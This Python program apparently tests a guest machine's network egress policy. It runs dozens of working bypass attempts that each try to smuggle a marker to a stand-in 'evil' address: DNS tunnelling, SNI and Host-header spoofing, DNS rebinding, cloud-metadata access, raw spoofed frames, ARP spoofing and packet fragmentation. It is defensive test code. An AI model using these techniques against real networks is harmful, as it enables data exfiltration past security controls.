"""Ways around the policy, tried inside a guest: a program of its own, of Python's standard library alone.

It reads lines `NAME MARKER` and answers each with a line of JSON once it has tried. An attempt gets through when the
marker, or a packet to a place that is not allowed, leaves the host; whoever runs this looks for that there. What an
attempt itself sees is told for information alone.
"""

from __future__ import annotations

import contextlib
import json
import os
import socket
import struct
import sys
from collections.abc import Callable

#: allowed.test leads to ALLOWED, and the rules are for that name; EVIL is a public address that nothing allows.
ALLOWED, EVIL, RESOLVER = "45.0.0.10", "45.0.0.66", "45.0.0.53"
ALLOWED_V6, EVIL_V6 = "2a0e:8f01:8::10", "2a0e:8f01:8::66"
#: The host's own addresses, and places beside it.
HOST, HOST_V6, PRIVATE, METADATA = "45.0.1.1", "2a0e:8f01:7::1", "10.9.0.5", "169.254.169.254"
GATEWAY, GUEST, GATEWAY_V6, GUEST_V6 = "10.0.2.2", "10.0.2.15", "fd53:4d2f:9c17::2", "fd53:4d2f:9c17::15"
#: A port of the host's loopback on which somebody listens, and one that the machine publishes.
SERVICE, PUBLISHED = 7001, 7002
PATIENCE = 1.5

ATTEMPTS: dict[str, Callable[[str], object]] = {}


def attempt(function: Callable[[str], object]) -> Callable[[str], object]:
    ATTEMPTS[function.__name__] = function
    return function


def _many(name: str, make: Callable[[str, str], object], **cases: str) -> None:
    """An attempt for each case: its name, and what `make` gets beside the marker."""
    for case, value in cases.items():
        ATTEMPTS[f"{name}_{case}"] = lambda marker, value=value: make(value, marker)  # type: ignore[misc]


def tcp(address: str, port: int, data: bytes | str, *, lookup: bool = True) -> str:
    """Connects, sends, and hears what there is."""
    data = data.encode() if isinstance(data, str) else data
    if lookup:
        client = socket.create_connection((address, port), PATIENCE)
    else:
        family = socket.AF_INET6 if ":" in address else socket.AF_INET
        client = socket.socket(family, socket.SOCK_STREAM)
        client.settimeout(PATIENCE)
        client.connect((address, port))
    with client:
        client.sendall(data)
        return client.recv(200).decode(errors="replace")


def udp(address: str, port: int, data: bytes | str) -> str:
    data = data.encode() if isinstance(data, str) else data
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as client:
        client.settimeout(PATIENCE)
        client.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        client.connect(socket.getaddrinfo(address, port)[0][4])
        client.send(data)
        return repr(client.recv(2000))


def query(name: str, kind: int = 1, number: int = 7) -> bytes:
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split(".") if label)
    return struct.pack(">HHHHHH", number, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)


def ask(name: str, kind: int = 1, server: str = GATEWAY) -> str:
    return udp(server, 53, query(name, kind))


def hello(name: str | None, marker: str, *, hidden: bool = False, also: str = "") -> bytes:
    """A ClientHello (RFC 8446, 4.1.2) for this name, with the marker in its random bytes."""

    def extension(kind: int, data: bytes) -> bytes:
        return struct.pack(">HH", kind, len(data)) + data

    def server_name(text: str) -> bytes:
        entry = b"\0" + struct.pack(">H", len(text)) + text.encode()
        return extension(0, struct.pack(">H", len(entry)) + entry)

    extensions = extension(43, b"\x02\x03\x04") + extension(10, b"\0\2\0\x1d") + extension(13, b"\0\2\x04\x03")
    if name is not None:
        extensions += server_name(name)
    if also:
        extensions += server_name(also)
    if hidden:
        extensions += extension(0xFE0D, b"\0\0\1\0\1\0\0\x20" + bytes(32) + b"\0\x10" + bytes(16))
    body = b"\x03\x03" + marker.encode().ljust(32, b".")[:32] + b"\0" + b"\0\2\x13\x01" + b"\1\0"
    body += struct.pack(">H", len(extensions)) + extensions
    message = b"\1" + len(body).to_bytes(3, "big") + body
    return b"\x16\x03\x01" + struct.pack(">H", len(message)) + message


def request(host: str, marker: str, more: str = "") -> bytes:
    return f"GET /{marker} HTTP/1.1\r\nHost: {host}\r\n{more}\r\n".encode()


def pinned() -> None:
    """Looks the allowed name up, so that its address is one that the rules are for."""
    socket.getaddrinfo("allowed.test", 80)


def checksum(data: bytes) -> int:
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ipv4(source: str, destination: str, protocol: int, body: bytes, options: bytes = b"", fragment: int = 0) -> bytes:
    length = 20 + len(options)
    head = struct.pack(
        ">BBHHHBBH4s4s", 0x40 | length // 4, 0, length + len(body), 77, fragment, 64, protocol, 0,
        socket.inet_aton(source), socket.inet_aton(destination),
    ) + options  # fmt: skip
    return head[:10] + struct.pack(">H", checksum(head)) + head[12:] + body


def ipv6(source: str, destination: str, protocol: int, body: bytes) -> bytes:
    ends = socket.inet_pton(socket.AF_INET6, source) + socket.inet_pton(socket.AF_INET6, destination)
    return struct.pack(">IHBB", 0x60000000, len(body), protocol, 64) + ends + body


def pseudo(source: str, destination: str, protocol: int, body: bytes) -> bytes:
    family = socket.AF_INET6 if ":" in source else socket.AF_INET
    ends = socket.inet_pton(family, source) + socket.inet_pton(family, destination)
    return (
        ends + struct.pack(">II", len(body), protocol)
        if ":" in source
        else ends + struct.pack(">HH", protocol, len(body))
    )


def datagram(source: str, destination: str, port: int, data: bytes) -> bytes:
    body = struct.pack(">HHHH", 40000, port, 8 + len(data), 0) + data
    total = checksum(pseudo(source, destination, 17, body) + body)
    return body[:6] + struct.pack(">H", total or 0xFFFF) + body[8:]


def syn(source: str, destination: str, port: int, data: bytes) -> bytes:
    body = struct.pack(">HHIIBBHHH", 40001, port, 1, 0, 0x50, 2, 0xFFFF, 0, 0) + data
    return body[:16] + struct.pack(">H", checksum(pseudo(source, destination, 6, body) + body)) + body[18:]


def frame(kind: int, packet: bytes, source: bytes = b"", destination: bytes = b"\x02\x53\x4d\0\0\2") -> None:
    """Puts a frame on the guest's wire, from this MAC or its own."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
        wire.bind(("eth0", kind))
        wire.send(destination + (source or wire.getsockname()[4]) + struct.pack(">H", kind) + packet)


# Addresses that no rule allows, in every notation that a client may take.
_many(
    "literal",
    lambda address, marker: tcp(address, 80, request("allowed.test", marker)),
    evil=EVIL,
    integer=str(int.from_bytes(socket.inet_aton(EVIL), "big")),
    hexadecimal="0x2d000042",
    octal="055.0.0.0102",
    short="45.66",
    mapped=f"::ffff:{EVIL}",
    v6=EVIL_V6,
    nat64=f"64:ff9b::{EVIL}",
    of_6to4="2002:2d00:42::1",
    unpinned_address_of_a_rule_for_names="45.0.0.11",
    private=PRIVATE,
    metadata=METADATA,
    metadata_mapped=f"::ffff:{METADATA}",
    metadata_integer="2852039166",
    zero="0.0.0.0",
    broadcast="255.255.255.255",
)
# The host's loopback by all its names, and the host by its addresses.
_many(
    "host",
    lambda address, marker: tcp(address, SERVICE, marker),
    docker_name="host.docker.internal",
    own_name="host.supermachine.internal",
    gateway_name="gateway",
    gateway=GATEWAY,
    gateway_v6=GATEWAY_V6,
    gateway_mapped=f"::ffff:{GATEWAY}",
    gateway_integer=str(int.from_bytes(socket.inet_aton(GATEWAY), "big")),
    address=HOST,
    address_v6=HOST_V6,
    address_mapped=f"::ffff:{HOST}",
)
_many("host_datagram", lambda address, marker: udp(address, SERVICE, marker), gateway=GATEWAY, address=HOST)
_many("hairpin", lambda address, marker: tcp(address, PUBLISHED, marker), gateway=GATEWAY, address=HOST)
# Names whose server says that they lead where no name may; they are allowed ones.
_many(
    "rebinding",
    lambda name, marker: tcp(name, 80, request(name, marker)),
    loopback="loopback.rebind.test",
    private="private.rebind.test",
    metadata="metadata.rebind.test",
    host="host.rebind.test",
    gateway="gateway.rebind.test",
    mapped="mapped.rebind.test",
    nat64="nat64.rebind.test",
)
# Bytes in questions to the name server.
_many(
    "question",
    lambda form, marker: ask(form.format(marker)),
    below_a_name="{}.evil.test",
    below_an_allowed_name="{}.allowed.test",
    in_capitals="{}.EVIL.test",
    under_the_root="{}",
    that_ends_like_a_rule="{}allowed.test",
    of_an_address="{}.in-addr.arpa",
)
_many(
    "question_for",
    lambda kind, marker: ask(f"{marker}.evil.test", int(kind)),
    txt="16",
    mx="15",
    null="10",
    https="65",
    any="255",
)
_many(
    "resolver",
    lambda address, marker: ask(f"{marker}.evil.test", server=address),
    of_another=EVIL,
    of_the_hosts=RESOLVER,
    by_ipv6=EVIL_V6,
)


@attempt
def question_by_tcp(marker: str) -> object:
    data = query(f"{marker}.evil.test")
    return tcp(GATEWAY, 53, struct.pack(">H", len(data)) + data)


@attempt
def question_with_a_second_one(marker: str) -> object:
    first, second = query("allowed.test"), query(f"{marker}.evil.test")
    return udp(GATEWAY, 53, first[:4] + b"\0\2" + first[6:] + second[12:])


@attempt
def question_with_bytes_after_it(marker: str) -> object:
    # An option of EDNS that nobody knows is a way to whoever serves the name.
    option = struct.pack(">HH", 65001, len(marker)) + marker.encode()
    record = b"\0" + struct.pack(">HHIH", 41, 4096, 0, len(option)) + option
    data = query("allowed.test")
    # The name is allowed, so its server may hear it; another may not.
    return udp(EVIL, 53, data[:10] + b"\0\1" + data[12:] + record)


@attempt
def alias_of_a_denied_name(marker: str) -> object:
    return tcp("alias.denied.test", 8080, marker)


@attempt
def dns_over_tls(marker: str) -> object:
    return tcp(EVIL, 853, hello("dns.evil.test", marker))


@attempt
def dns_over_https(marker: str) -> object:
    return tcp(EVIL, 443, hello("dns.evil.test", marker))


# What a connection says that it is for, to the address that an allowed name led to.
_many(
    "server_name",
    lambda name, marker: (pinned(), tcp(ALLOWED, 443, hello(name, marker)))[1],
    other="evil.test",
    sibling="sibling.allowed.test",
    above="test",
    longer="allowed.test.evil.test",
    address=ALLOWED,
    empty="",
)


@attempt
def server_name_missing(marker: str) -> object:
    pinned()
    return tcp(ALLOWED, 443, hello(None, marker))


@attempt
def server_name_hidden(marker: str) -> object:
    pinned()
    return tcp(ALLOWED, 443, hello("allowed.test", marker, hidden=True))


@attempt
def server_name_twice(marker: str) -> object:
    pinned()
    return tcp(ALLOWED, 443, hello("allowed.test", marker, also="evil.test"))


@attempt
def server_name_allowed_at_another_address(marker: str) -> object:
    return tcp(EVIL, 443, hello("allowed.test", marker))


@attempt
def server_name_split_over_segments(marker: str) -> object:
    pinned()
    data = hello("evil.test", marker)
    with socket.create_connection((ALLOWED, 443), PATIENCE) as client:
        client.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for at in range(0, len(data), 5):
            client.sendall(data[at : at + 5])
        return repr(client.recv(100))


@attempt
def server_name_split_over_records(marker: str) -> object:
    pinned()
    message = hello("evil.test", marker)[5:]
    pieces = [message[at : at + 20] for at in range(0, len(message), 20)]
    return tcp(ALLOWED, 443, b"".join(b"\x16\x03\x01" + struct.pack(">H", len(piece)) + piece for piece in pieces))


@attempt
def server_name_after_other_bytes(marker: str) -> object:
    pinned()
    return tcp(ALLOWED, 443, marker.encode() + hello("allowed.test", marker))


@attempt
def no_tls_at_its_port(marker: str) -> object:
    pinned()
    return tcp(ALLOWED, 443, request("allowed.test", marker))


@attempt
def ssh_at_the_port_of_tls(marker: str) -> object:
    pinned()
    return tcp(ALLOWED, 443, f"SSH-2.0-{marker}\r\n")


_many(
    "host_field",
    lambda name, marker: (pinned(), tcp(ALLOWED, 80, request(name, marker)))[1],
    other="evil.test",
    address=ALLOWED,
    sibling="sibling.allowed.test",
    with_another="allowed.test\r\nHost: evil.test",
    folded="evil.test\r\n allowed.test",
    with_bare_line_feed="evil.test\nHost: allowed.test",
)


@attempt
def host_field_missing(marker: str) -> object:
    pinned()
    return tcp(ALLOWED, 80, f"GET /{marker} HTTP/1.0\r\n\r\n")


@attempt
def target_of_another_host(marker: str) -> object:
    pinned()
    return tcp(ALLOWED, 80, f"GET http://evil.test/{marker} HTTP/1.1\r\nHost: allowed.test\r\n\r\n")


@attempt
def tunnel_by_connect(marker: str) -> object:
    pinned()
    return tcp(ALLOWED, 80, f"CONNECT evil.test:443 HTTP/1.1\r\nHost: allowed.test\r\nX: {marker}\r\n\r\n")


@attempt
def http2_without_tls(marker: str) -> object:
    pinned()
    return tcp(ALLOWED, 80, f"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n{marker}")


@attempt
def redirect_to_another_host(marker: str) -> object:
    # The server of an allowed name says where to go on; a client does.
    answer = tcp("allowed.test", 80, request("allowed.test", "redirect"))
    assert f"http://{EVIL}/" in answer, answer
    return tcp(EVIL, 80, request("evil.test", marker))


@attempt
def other_port_of_the_allowed_address(marker: str) -> object:
    pinned()
    return tcp(ALLOWED, 22, marker)


_many(
    "quic",
    lambda address, marker: (pinned(), udp(address, 443, b"\xc3\0\0\0\1\x08" + marker.encode() + bytes(1200)))[1],
    of_the_allowed_address=ALLOWED,
    of_another=EVIL,
    by_ipv6=EVIL_V6,
)
_many(
    "datagram",
    lambda address, marker: udp(address, 5000, marker),
    to_another=EVIL,
    to_metadata=METADATA,
    to_private=PRIVATE,
    to_everybody="255.255.255.255",
    to_the_subnet="10.0.2.255",
    to_mdns="224.0.0.251",
    to_ssdp="239.255.255.250",
    to_mdns_v6="ff02::fb%eth0",
    to_an_unused_neighbour="10.0.2.77",
)


@attempt
def ping_with_bytes(marker: str) -> object:
    body = b"\x08\0\0\0\0\1\0\1" + marker.encode()
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as raw:
        raw.sendto(body[:2] + struct.pack(">H", checksum(body)) + body[4:], (EVIL, 0))
    return None


# Frames and packets as no client sends them.
_many(
    "protocol",
    lambda number, marker: frame(0x0800, ipv4(GUEST, EVIL, int(number), marker.encode() * 2)),
    ip_in_ip="4",
    ipv6_in_ip="41",
    gre="47",
    sctp="132",
    esp="50",
    udp_lite="136",
    igmp="2",
)


@attempt
def frame_from_another_mac(marker: str) -> object:
    packet = ipv4(GUEST, EVIL, 17, datagram(GUEST, EVIL, 5000, marker.encode()))
    return frame(0x0800, packet, source=b"\x02\0\0\0\0\x99")


@attempt
def frame_from_the_gateways_mac(marker: str) -> object:
    packet = ipv4(GATEWAY, EVIL, 17, datagram(GATEWAY, EVIL, 5000, marker.encode()))
    return frame(0x0800, packet, source=b"\x02\x53\x4d\0\0\2")


_many(
    "packet_from",
    lambda source, marker: frame(0x0800, ipv4(source, EVIL, 17, datagram(source, EVIL, 5000, marker.encode()))),
    another=f"{EVIL[:-2]}67",
    the_gateway=GATEWAY,
    a_neighbour="10.0.2.16",
    loopback="127.0.0.1",
    nobody="0.0.0.0",
    the_host=HOST,
)


@attempt
def packet_from_another_ipv6_address(marker: str) -> object:
    source = "fd53:4d2f:9c17::99"
    return frame(0x86DD, ipv6(source, EVIL_V6, 17, datagram(source, EVIL_V6, 5000, marker.encode())))


@attempt
def echo_from_a_link_local_address(marker: str) -> object:
    body = b"\x80\0\0\0\0\1\0\1" + marker.encode()
    total = checksum(pseudo("fe80::1", EVIL_V6, 58, body) + body)
    return frame(0x86DD, ipv6("fe80::1", EVIL_V6, 58, body[:2] + struct.pack(">H", total) + body[4:]))


@attempt
def segment_with_bytes_in_its_syn(marker: str) -> object:
    return frame(0x0800, ipv4(GUEST, EVIL, 6, syn(GUEST, EVIL, 80, marker.encode())))


@attempt
def segment_with_bytes_in_its_syn_to_the_allowed_address(marker: str) -> object:
    pinned()
    return frame(0x0800, ipv4(GUEST, ALLOWED, 6, syn(GUEST, ALLOWED, 443, marker.encode())))


@attempt
def packet_with_a_source_route(marker: str) -> object:
    # Loose source and record route (RFC 791): by the allowed address to another.
    option = bytes([131, 7, 4]) + socket.inet_aton(EVIL) + b"\0"
    return frame(0x0800, ipv4(GUEST, HOST, 17, datagram(GUEST, HOST, 5000, marker.encode()), options=option))


@attempt
def packet_with_a_routing_header(marker: str) -> object:
    route = bytes([17, 2, 0, 1, 0, 0, 0, 0]) + socket.inet_pton(socket.AF_INET6, EVIL_V6)
    return frame(0x86DD, ipv6(GUEST_V6, HOST_V6, 43, route + datagram(GUEST_V6, EVIL_V6, 5000, marker.encode())))


@attempt
def packet_with_options_before_it(marker: str) -> object:
    options = bytes([17, 0, 1, 4, 0, 0, 0, 0])
    return frame(0x86DD, ipv6(GUEST_V6, EVIL_V6, 0, options + datagram(GUEST_V6, EVIL_V6, 5000, marker.encode())))


@attempt
def datagram_in_fragments(marker: str) -> object:
    whole = datagram(GUEST, EVIL, 5000, marker.encode().ljust(64, b"."))
    frame(0x0800, ipv4(GUEST, EVIL, 17, whole[:8], fragment=0x2000))
    return frame(0x0800, ipv4(GUEST, EVIL, 17, whole[8:], fragment=1))


@attempt
def datagram_in_fragments_that_overlap(marker: str) -> object:
    whole = datagram(GUEST, RESOLVER, 5000, marker.encode().ljust(64, b"."))
    frame(0x0800, ipv4(GUEST, RESOLVER, 17, whole[:24], fragment=0x2000))
    return frame(0x0800, ipv4(GUEST, RESOLVER, 17, whole[8:], fragment=1))


@attempt
def datagram_in_fragments_of_ipv6(marker: str) -> object:
    whole = datagram(GUEST_V6, EVIL_V6, 5000, marker.encode().ljust(64, b"."))
    frame(0x86DD, ipv6(GUEST_V6, EVIL_V6, 44, b"\x11\0\0\1\0\0\0\5" + whole[:8]))
    return frame(0x86DD, ipv6(GUEST_V6, EVIL_V6, 44, b"\x11\0\0\x08\0\0\0\5" + whole[8:]))


@attempt
def frame_with_a_tag(marker: str) -> object:
    packet = ipv4(GUEST, EVIL, 17, datagram(GUEST, EVIL, 5000, marker.encode()))
    return frame(0x8100, b"\0\5\x08\0" + packet)


@attempt
def neighbour_that_is_somebody_else(marker: str) -> object:
    # Says that the guest has the gateway's address, and another's.
    for owned in (GATEWAY, EVIL):
        mac = b"\x02\0\0\0\0\x77"
        body = b"\0\1\x08\0\6\4\0\2" + mac + socket.inet_aton(owned) + b"\xff" * 6 + socket.inet_aton(owned)
        frame(0x0806, body, source=mac, destination=b"\xff" * 6)
    return udp(EVIL, 5000, marker)


@attempt
def second_address_of_the_interface(marker: str) -> object:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.setsockopt(socket.SOL_IP, 15, 1)  # IP_FREEBIND
        client.bind(("10.0.2.16", 0))
        client.sendto(marker.encode(), (EVIL, 5000))
    return None


@attempt
def lease_from_another(marker: str) -> object:
    return udp("255.255.255.255", 67, b"\1\1\6\0" + os.urandom(4) + bytes(228) + b"c\x82Sc" + marker.encode())


def main() -> None:
    for line in sys.stdin:
        name, marker = line.split()
        seen: object
        try:
            seen = ATTEMPTS[name](marker)
        except OSError as error:
            seen = f"{type(error).__name__}: {error}"
        except UnicodeError as error:
            seen = f"no name: {error}"
        with contextlib.suppress(BrokenPipeError):
            print(json.dumps({"name": name, "seen": seen}, default=repr), flush=True)


if __name__ == "__main__":
    main()
